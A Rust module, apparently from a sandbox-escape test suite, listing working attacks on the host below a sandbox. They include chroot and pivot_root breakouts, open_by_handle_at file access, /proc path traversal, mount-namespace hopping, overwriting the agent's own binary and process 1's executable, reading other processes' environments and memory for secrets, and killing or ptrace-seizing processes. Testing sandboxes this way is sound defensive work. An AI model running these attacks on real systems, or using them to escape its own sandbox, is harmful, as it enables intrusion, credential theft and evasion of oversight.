//! Attacks on the files and processes of the machine below the sandbox.

use std::fs;
use std::io;
use std::os::fd::{AsFd, AsRawFd as _, OwnedFd};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::sync::{Mutex, PoisonError};

use rustix::fs::{CWD, Mode, OFlags, openat};
use rustix::mount::MountFlags;
use rustix::process::{Pid, Signal};
use rustix::thread::{LinkNameSpaceType, UnshareFlags, move_into_link_name_space};

use super::canary::HIDDEN;
use super::{Attack, Last, argument, hold, number, secrets_in, tell};

/// By name.
pub(super) const ATTACKS: &[(&str, Attack)] = &[
    ("path", path),
    ("proc-root", proc_root),
    ("descriptors", descriptors),
    ("chroot", chroot),
    ("handle", handle),
    ("pivot", pivot),
    ("write", write),
    ("open", open),
    ("program", program),
    ("paths", paths),
    ("arguments", arguments),
    ("environment", environment),
    ("memory", memory),
    ("kill", kill),
    ("renice", renice),
    ("trace", trace),
    ("namespaces", namespaces),
    ("hostname", hostname),
];

/// Enough steps up to be at the root of whatever one is in.
const UP: &str = "../../../../../../../../../../../../../../../..";

/// The most of one process's memory that is read, in bytes.
const HEAP: usize = 8 << 20;

/// The processes that can be seen.
fn processes() -> io::Result<Vec<String>> {
    let names = fs::read_dir("/proc")?.filter_map(|entry| entry.ok()?.file_name().into_string().ok());
    Ok(names.filter(|name| name.bytes().all(|byte| byte.is_ascii_digit())).collect())
}

/// Reads a file in all these ways.
fn read_all(ways: impl IntoIterator<Item = PathBuf>) -> io::Result<()> {
    let mut last = Last::default();
    for way in ways {
        last.see(fs::read(way).and_then(|content| tell(&content)));
    }
    last.into_result()
}

/// A file of the machine by its path, and by steps that lead up from somewhere.
fn path(args: &[String]) -> io::Result<()> {
    let path = argument(args, 0)?;
    let below = path.trim_start_matches('/');
    let from = ["", UP, "/proc/self/cwd", "/proc/self/root", "/tmp", "/dev", "/sys", "/run", "/proc"];
    read_all(
        from.into_iter()
            .flat_map(|from| [Path::new(from).join(below), Path::new(from).join(UP).join(below)])
            .chain([PathBuf::from(path)]),
    )
}

/// The same, through the root and working folders of all processes.
fn proc_root(args: &[String]) -> io::Result<()> {
    let path = argument(args, 0)?.trim_start_matches('/');
    let processes = processes()?.into_iter().chain(["self".to_owned(), "thread-self".to_owned()]);
    read_all(processes.flat_map(|process| {
        let process = Path::new("/proc").join(process);
        [process.join("root").join(path), process.join("cwd").join(UP).join(path)]
    }))
}

/// The same, through descriptors of folders that somebody forgot to close.
fn descriptors(args: &[String]) -> io::Result<()> {
    let path = argument(args, 0)?.trim_start_matches('/');
    let mut ways = Vec::new();
    for process in processes()? {
        let Ok(open) = fs::read_dir(Path::new("/proc").join(process).join("fd")) else { continue };
        ways.extend(open.flatten().map(|descriptor| descriptor.path().join(UP).join(path)));
    }
    read_all(ways)
}

/// The same, by leaving a root folder below which one has a descriptor.
fn chroot(args: &[String]) -> io::Result<()> {
    let path = argument(args, 0)?.trim_start_matches('/');
    let root = rustix::fs::open("/", OFlags::DIRECTORY | OFlags::CLOEXEC, Mode::empty())?;
    let cage = own_folder("cage")?;
    rustix::process::chroot(&cage)?;
    rustix::process::fchdir(&root)?;
    for _ in 0..64 {
        rustix::process::chdir("..")?;
    }
    rustix::process::chroot(".")?;
    tell(&fs::read(path)?)
}

/// The same, by the handle that its file system knows it by.
fn handle(args: &[String]) -> io::Result<()> {
    let (kind, bytes): (i32, Vec<u8>) = (number(args, 0)?, unhex(argument(args, 1)?)?);
    let mut wanted = Handle { len: 0, kind, bytes: [0; 128] };
    let room = wanted.bytes.get_mut(..bytes.len()).ok_or(io::ErrorKind::InvalidInput)?;
    room.copy_from_slice(&bytes);
    wanted.len = u32::try_from(bytes.len()).map_err(io::Error::other)?;
    let mut last = Last::default();
    for mounted in ["/", "/tmp", "/dev/shm", "/run", "/dev", "/etc/hosts", "/etc/resolv.conf"] {
        let Ok(at) = rustix::fs::open(mounted, OFlags::CLOEXEC, Mode::empty()) else { continue };
        last.see(open_by_handle(&at, &mut wanted).and_then(|file| {
            let mut content = vec![0; 4096];
            let len = rustix::io::read(&file, &mut content)?;
            tell(content.get(..len).unwrap_or_default())
        }));
    }
    last.into_result()
}

/// `struct file_handle` with room for any.
#[repr(C)]
pub(super) struct Handle {
    pub(super) len: u32,
    pub(super) kind: i32,
    pub(super) bytes: [u8; 128],
}

fn open_by_handle(at: impl AsFd, handle: &mut Handle) -> io::Result<OwnedFd> {
    use std::os::fd::FromRawFd as _;
    let at = at.as_fd().as_raw_fd();
    // SAFETY: the handle is as long as it says, and lives across the call.
    let fd = unsafe { libc::syscall(libc::SYS_open_by_handle_at, at, &raw mut *handle, libc::O_RDONLY) };
    let fd = i32::try_from(fd).map_err(io::Error::other)?;
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: the kernel has just made it, and nobody else owns it.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn unhex(text: &str) -> io::Result<Vec<u8>> {
    let digits = |at: usize| text.get(at..at + 2).and_then(|digits| u8::from_str_radix(digits, 16).ok());
    (0..text.len())
        .step_by(2)
        .map(|at| digits(at).ok_or_else(|| io::ErrorKind::InvalidInput.into()))
        .collect()
}

/// The same, in a mount namespace of one's own with another root: that of process 1, or what one is in.
fn pivot(args: &[String]) -> io::Result<()> {
    let path = argument(args, 0)?.trim_start_matches('/');
    let new = own_folder("new-root")?;
    // Before anything is mounted, so that nothing of it stays where others would see it.
    // SAFETY: this process has one thread, and no descriptor changes its meaning.
    unsafe { rustix::thread::unshare_unsafe(UnshareFlags::NEWNS)? };
    if rustix::mount::mount_bind_recursive("/proc/1/root", &new).is_err() {
        rustix::mount::mount_bind_recursive("/", &new)?;
    }
    let pivoted = rustix::process::pivot_root(&new, new.join("mnt"));
    let root = if pivoted.is_ok() { Path::new("/") } else { &new };
    read_all([root.join(path)])
}

/// The folders that this process made.
static OWN: Mutex<Vec<PathBuf>> = Mutex::new(Vec::new());

/// Takes away what this process made, if it is where others would find it.
pub(super) fn clear_up() {
    let own = std::mem::take(&mut *OWN.lock().unwrap_or_else(PoisonError::into_inner));
    for folder in own {
        // What is mounted first; there may be nothing of all of it.
        while rustix::mount::unmount(&folder, rustix::mount::UnmountFlags::DETACH).is_ok() {}
        let _absent = fs::remove_file(folder.join("node"));
        let _absent = fs::remove_dir(&folder);
    }
}

/// A folder of this process's own.
pub(super) fn own_folder(name: &str) -> io::Result<PathBuf> {
    let mut last = Last::default();
    for parent in [Path::new("/tmp"), Path::new("/run"), Path::new("/dev/shm"), Path::new(".")] {
        let folder = parent.join(format!("{name}-{}", std::process::id()));
        match fs::create_dir_all(&folder).and_then(|()| fs::canonicalize(&folder)) {
            Ok(folder) => {
                OWN.lock().unwrap_or_else(PoisonError::into_inner).push(folder.clone());
                return Ok(folder);
            }
            Err(error) => last.see(Err(error)),
        }
    }
    last.into_result()?;
    Err(io::ErrorKind::NotFound.into())
}

/// Puts a text into a file of the machine.
fn write(args: &[String]) -> io::Result<()> {
    let (path, text) = (argument(args, 0)?, argument(args, 1)?);
    let mut last = Last::default();
    let below = path.trim_start_matches('/');
    let ways =
        processes()?.into_iter().map(|process| Path::new("/proc").join(process).join("root").join(below));
    for way in [PathBuf::from(path), Path::new(UP).join(below)].into_iter().chain(ways) {
        // Not one that is made by this.
        let opened = fs::OpenOptions::new().write(true).truncate(true).open(way);
        last.see(opened.and_then(|mut file| io::Write::write_all(&mut file, text.as_bytes())));
    }
    last.into_result()
}

/// A file of the machine, held open for writing. Nothing is written.
fn open(args: &[String]) -> io::Result<()> {
    let open = |path: &str| fs::OpenOptions::new().write(true).open(path);
    hold(args.iter().find_map(|path| open(path).ok()).ok_or(io::ErrorKind::NotFound)?)
}

/// Replaces the agent's program, and with it what the machine runs in the next sandbox.
fn program(args: &[String]) -> io::Result<()> {
    let mark = argument(args, 0)?;
    let own = std::env::current_exe()?;
    let mut changed = fs::read(&own)?;
    changed.extend_from_slice(mark.as_bytes());
    let beside = own.with_extension("new");
    let mut last = Last::default();
    for process in ["/proc/self/exe", "/proc/1/exe"] {
        let opened = fs::OpenOptions::new().append(true).open(process);
        last.see(opened.and_then(|mut file| io::Write::write_all(&mut file, mark.as_bytes())));
    }
    last.see(
        fs::write(&beside, &changed)
            .and_then(|()| fs::set_permissions(&beside, fs::Permissions::from_mode(0o755)))
            .and_then(|()| fs::rename(&beside, &own)),
    );
    last.into_result()
}

/// All that the kernel tells of files, by which a path of the machine would be known.
fn paths(_: &[String]) -> io::Result<()> {
    for process in processes()?.into_iter().chain(["self".to_owned()]) {
        let process = Path::new("/proc").join(process);
        for file in ["mountinfo", "maps", "cgroup", "cmdline"] {
            if let Ok(text) = fs::read(process.join(file)) {
                tell(&text)?;
            }
        }
        for folder in ["fd", "."] {
            for entry in fs::read_dir(process.join(folder)).into_iter().flatten().flatten() {
                if let Ok(target) = fs::read_link(entry.path()) {
                    tell(target.as_os_str().as_encoded_bytes())?;
                }
            }
        }
    }
    for disk in fs::read_dir("/sys/block").into_iter().flatten().flatten() {
        if let Ok(text) = fs::read(disk.path().join("loop/backing_file")) {
            tell(&text)?;
        }
    }
    Ok(())
}

/// The arguments of all processes.
fn arguments(_: &[String]) -> io::Result<()> {
    read_all(processes()?.into_iter().map(|process| Path::new("/proc").join(process).join("cmdline")))
}

/// The environment of all processes.
fn environment(_: &[String]) -> io::Result<()> {
    read_all(processes()?.into_iter().map(|process| Path::new("/proc").join(process).join("environ")))
}

/// Texts in the memory of a process, by its number on the machine; then of all that can be seen.
fn memory(args: &[String]) -> io::Result<()> {
    let mut last = Last::default();
    let first = argument(args, 0)?.to_owned();
    for process in std::iter::once(first).chain(processes()?) {
        last.see(heap(&process).and_then(|memory| tell(&secrets_in(&memory))));
    }
    last.into_result()
}

/// The heap of a process, by its file and by the system call.
fn heap(process: &str) -> io::Result<Vec<u8>> {
    use std::os::unix::fs::FileExt as _;
    let maps = fs::read_to_string(Path::new("/proc").join(process).join("maps"))?;
    let file = fs::File::open(Path::new("/proc").join(process).join("mem"));
    let mut found = Vec::new();
    for line in maps.lines().filter(|line| line.contains(" rw-p ") || line.contains(" rw")) {
        let Some((from, to)) = line.split_whitespace().next().and_then(|range| range.split_once('-')) else {
            continue;
        };
        let [Ok(from), Ok(to)] = [from, to].map(|text| u64::from_str_radix(text, 16)) else { continue };
        let len = usize::try_from(to.saturating_sub(from)).unwrap_or(usize::MAX).min(HEAP);
        let mut part = vec![0; len];
        let read = match &file {
            Ok(file) => file.read_at(&mut part, from).or_else(|_| read_process(process, from, &mut part)),
            Err(_) => read_process(process, from, &mut part),
        };
        if let Ok(len) = read {
            found.extend_from_slice(part.get(..len).unwrap_or_default());
        }
        if found.len() > HEAP {
            break;
        }
    }
    Ok(found)
}

fn read_process(process: &str, from: u64, into: &mut [u8]) -> io::Result<usize> {
    let pid: libc::pid_t = process.parse().map_err(|_| io::ErrorKind::InvalidInput)?;
    let local = libc::iovec { iov_base: into.as_mut_ptr().cast(), iov_len: into.len() };
    let from = usize::try_from(from).map_err(io::Error::other)?;
    let remote = libc::iovec { iov_base: std::ptr::without_provenance_mut(from), iov_len: into.len() };
    // SAFETY: the local buffer is exclusively borrowed; the remote one is looked at in the other process alone.
    let len = unsafe { libc::process_vm_readv(pid, &raw const local, 1, &raw const remote, 1, 0) };
    usize::try_from(len).map_err(|_| io::Error::last_os_error())
}

fn pid(args: &[String], index: usize) -> io::Result<Pid> {
    Pid::from_raw(number(args, index)?).ok_or_else(|| io::ErrorKind::InvalidInput.into())
}

/// Ends a process of the machine, by its number there.
fn kill(args: &[String]) -> io::Result<()> {
    Ok(rustix::process::kill_process(pid(args, 0)?, Signal::KILL)?)
}

/// Takes its share of the processor from one.
fn renice(args: &[String]) -> io::Result<()> {
    Ok(rustix::process::setpriority_process(Some(pid(args, 0)?), number(args, 1)?)?)
}

/// Takes control of one, and keeps it.
fn trace(args: &[String]) -> io::Result<()> {
    let pid: libc::pid_t = number(args, 0)?;
    let no = std::ptr::null_mut::<libc::c_void>();
    // SAFETY: this request takes no pointer.
    if unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, no, no) } < 0 {
        return Err(io::Error::last_os_error());
    }
    hold(())
}

/// A file that only the mount namespace of another process has.
fn namespaces(_: &[String]) -> io::Result<()> {
    let mut last = Last::default();
    let own = openat(CWD, "/proc/self/ns/mnt", OFlags::CLOEXEC, Mode::empty())?;
    for process in processes()? {
        let enter = || -> io::Result<()> {
            let ns = format!("/proc/{process}/ns/mnt");
            let ns = openat(CWD, ns, OFlags::CLOEXEC, Mode::empty())?;
            move_into_link_name_space(ns.as_fd(), Some(LinkNameSpaceType::Mount))?;
            let content = fs::read(HIDDEN);
            move_into_link_name_space(own.as_fd(), Some(LinkNameSpaceType::Mount))?;
            tell(&content?)
        };
        last.see(enter());
    }
    last.into_result()
}

/// The name of the machine, by the system call and by its file.
fn hostname(args: &[String]) -> io::Result<()> {
    let name = argument(args, 0)?;
    let by_call = rustix::system::sethostname(name.as_bytes());
    let by_file = fs::write("/proc/sys/kernel/hostname", name);
    by_file.or(by_call.map_err(Into::into))
}

/// Mounts a file system of a kind, on a folder of this process's own.
pub(super) fn mounted(kind: &str, source: &str, flags: MountFlags) -> io::Result<PathBuf> {
    let folder = own_folder(kind)?;
    rustix::mount::mount(source, &folder, kind, flags, None::<&std::ffi::CStr>)?;
    Ok(folder)
}
